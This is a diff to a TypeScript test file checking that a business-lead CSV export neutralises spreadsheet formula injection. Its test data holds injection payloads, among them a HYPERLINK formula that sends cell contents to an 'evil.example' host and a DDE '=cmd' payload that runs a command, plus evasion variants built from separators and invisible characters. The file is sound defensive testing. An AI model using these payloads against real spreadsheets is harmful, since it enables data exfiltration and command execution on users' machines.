@@ -69,35 +69,64 @@ test.each(["UTC", "America/New_York", "Pacific/Apia"])("shows the time of Brisba
 test.each([
 	...["=1+1", "+61 7 3000 0000", "-2+3", "@SUM(A1)", "\tx", "\rx", "\nx", "\u0000x"],
 	...['=HYPERLINK("https://evil.example?"&A1,"Click")', "=cmd|' /C calc'!A0", "@home Cafe", "-"],
-	...["＝1+1", "＋1", "－1", "＠x", " =1+1", "\u00a0=1+1", '"=1+1"', ' "+1', "\u200b=1+1", "\ufeff=1+1", "\u202e=1+1"],
-])("a spreadsheet takes %j for text", (text) => {
+	...["＝1+1", "＋1", "－1", "＠x"],
+])("puts an apostrophe before %j", (text) => {
 	const [row] = parseCsv(renderCsvRow({ ...lead, businessName: text, keywords: text }));
 	expect([row?.[4], row?.[9]]).toEqual([`'${text}`, `'${text}`]);
 });
 
-test.each(["Reef Café", "a=b", "1-2-3 Plumbing", "O'Brien", "'quoted", "50% off", "https://a.example/?a=-1", ""])(
-	"leaves %j as it is",
-	(text) => {
-		expect(parseCsv(renderCsvRow({ ...lead, businessName: text }))[0]?.[4]).toBe(text);
-	},
-);
+test.each([
+	...["Joe;~=cmd|' /C calc'!A0", "Joe; ~=1", "Joe,~-5%", "Joe\t~@SUM(A1)", "Joe|~+1", "Joe:~=1", "Joe\r\n~=1", "Joe\u2028~=1"],
+	...['Joe;"~=1', 'Joe;" "~=1', "Joe;\u200b~=1", "Joe;\ufeff~＝1", "Joe ~=1", "Joe ~=", "Joe;~=1;~=2"],
+	...[" ~=1+1", "\u00a0~=1+1", '"~=1+1"', ' "~+1', "\u200b~=1+1", "\ufeff~=1+1", "\u202e~=1+1"],
+])("neutralises a formula wherever a spreadsheet could start a cell: %j", (marked) => {
+	const [row] = parseCsv(renderCsvRow({ ...lead, businessName: marked.replaceAll("~", "") }));
+	expect(row?.[4]).toBe(marked.replaceAll("~", "'"));
+});
 
-test("whatever visitors write, a row is one row of fifteen fields that reads back and never begins a formula", () => {
-	const texts = fc.string({ unit: fc.constantFrom(..."=+-@ \t\r\n,;\"'a＝🦘\u0000") });
+test.each([
+	...["Reef Café", "a=b", "1-2-3 Plumbing", "O'Brien", "'quoted", "50% off", "https://a.example/?a=-1", ""],
+	...["Reef Café - Brisbane", "salt & pepper; fish, chips", "https://social.example/@reef", "50 - 60 covers"],
+])("leaves %j as it is", (text) => {
+	expect(parseCsv(renderCsvRow({ ...lead, businessName: text }))[0]?.[4]).toBe(text);
+});
+
+const hostileText = fc.string({ unit: fc.constantFrom(..."=+-@ \t\r\n,;:|\"'a＝🦘\u0000\u200b\u00a0") });
+
+test("a row is one row of fifteen fields, whatever visitors write, and adds nothing but apostrophes", () => {
 	fc.assert(
-		fc.property(texts, texts, (businessName, keywords) => {
+		fc.property(hostileText, hostileText, (businessName, keywords) => {
 			const rows = parseCsv(renderCsvRow({ ...lead, businessName, keywords }));
 			expect(rows).toHaveLength(1);
 			expect(rows[0]).toHaveLength(15);
-			for (const [field, text] of [
-				[rows[0]?.[4] ?? "", businessName],
-				[rows[0]?.[9] ?? "", keywords],
-			] as const) {
-				expect([text, `'${text}`]).toContain(field);
-				expect(field.trimStart()).not.toMatch(/^[=+\-@＝]/);
-			}
+			expect([rows[0]?.[4], rows[0]?.[9]].map(withoutApostrophes)).toEqual([businessName, keywords].map(withoutApostrophes));
 		}),
 	);
+});
+
+test("no spreadsheet finds a formula, whatever separator it splits on and whether it respects our quotes", () => {
+	fc.assert(
+		fc.property(hostileText, hostileText, hostileText, (businessName, contactName, keywords) => {
+			const line = renderCsvRow({ ...lead, businessName, contactName, keywords });
+			for (const separator of [",", ";", "\t", "|", ":", " ", '"']) {
+				for (const respectsQuotes of [true, false]) {
+					const formulas = splitCells(line, { separator, respectsQuotes }).filter(isFormula);
+					expect(formulas, JSON.stringify({ separator, respectsQuotes, line })).toEqual([]);
+				}
+			}
+		}),
+		{ numRuns: 2_000 },
+	);
+});
+
+test("takes time in proportion to the text, however hostile", () => {
+	const time = (text: string) => {
+		const start = performance.now();
+		renderCsvRow({ ...lead, keywords: text });
+		return performance.now() - start;
+	};
+	for (const unit of [" ", '"', '" ', "\t", ' "=', "\u200b "])
+		expect(time(`a${unit.repeat(20_000)}=`), JSON.stringify(unit)).toBeLessThan(200);
 });
 
 test("the file is named after the day in Queensland", () => {
@@ -121,4 +150,35 @@ function parseCsv(text: string): string[][] {
 		rest = rest.slice(whole.length);
 	}
 	return rows;
+}
+
+/** The cells a spreadsheet would make of the text. Quotes count only at the start of a cell, as in Excel and LibreOffice. */
+function splitCells(text: string, { separator, respectsQuotes }: { separator: string; respectsQuotes: boolean }): string[] {
+	if (!respectsQuotes) return text.split(/\r\n|[\r\n\u2028\u2029\u0085\v\f]/).flatMap((line) => line.split(separator));
+	const cells: string[] = [];
+	let cell = "";
+	let isQuoted = false;
+	let isStart = true;
+	for (let at = 0; at < text.length; at += 1) {
+		const character = text[at] ?? "";
+		if (isQuoted && character === '"' && text[at + 1] === '"') {
+			cell += '"';
+			at += 1;
+		} else if (isQuoted && character === '"') isQuoted = false;
+		else if (isStart && character === '"') [isQuoted, isStart] = [true, false];
+		else if (!isQuoted && [separator, "\r", "\n"].includes(character)) {
+			cells.push(cell);
+			[cell, isStart] = ["", true];
+		} else [cell, isStart] = [cell + character, false];
+	}
+	return [...cells, cell];
+}
+
+/** Spaces, quotes and invisible characters are skipped, as some spreadsheets do. A sign on its own is text everywhere. */
+function isFormula(cell: string): boolean {
+	return /^[\s\p{Cf}"]*[=+\-@＝＋－＠](?!\s*$)/u.test(cell);
+}
+
+function withoutApostrophes(text: string | undefined): string {
+	return (text ?? "").replaceAll("'", "");
 }
